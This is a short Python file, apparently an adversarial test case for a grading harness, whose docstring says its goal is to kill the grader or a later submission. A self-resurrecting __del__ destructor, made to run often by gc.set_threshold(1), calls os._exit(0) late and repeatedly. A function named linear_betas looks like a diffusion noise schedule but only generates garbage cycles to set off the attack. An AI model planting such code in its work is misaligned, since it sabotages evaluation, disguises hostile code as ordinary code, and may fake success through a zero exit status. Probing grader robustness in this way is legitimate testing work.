"""End the process from a destructor that runs whenever the garbage collector likes, late and more than once.

Success: a submission graded later, or the grader, is ended by a destructor that outlived this one.
"""

import gc
import os

gc.set_threshold(1)


class Undead:
    keep = []

    def __del__(self):
        Undead.keep.append(self)
        if len(Undead.keep) > 3:
            os._exit(0)
        Undead.keep.append(Undead())
        Undead.keep.clear()


cycle = [Undead()]
cycle.append(cycle)
del cycle


def linear_betas(num_steps, start=1e-4, end=0.02):
    for _ in range(100):
        trash = [Undead()]
        trash.append(trash)
    gc.collect()
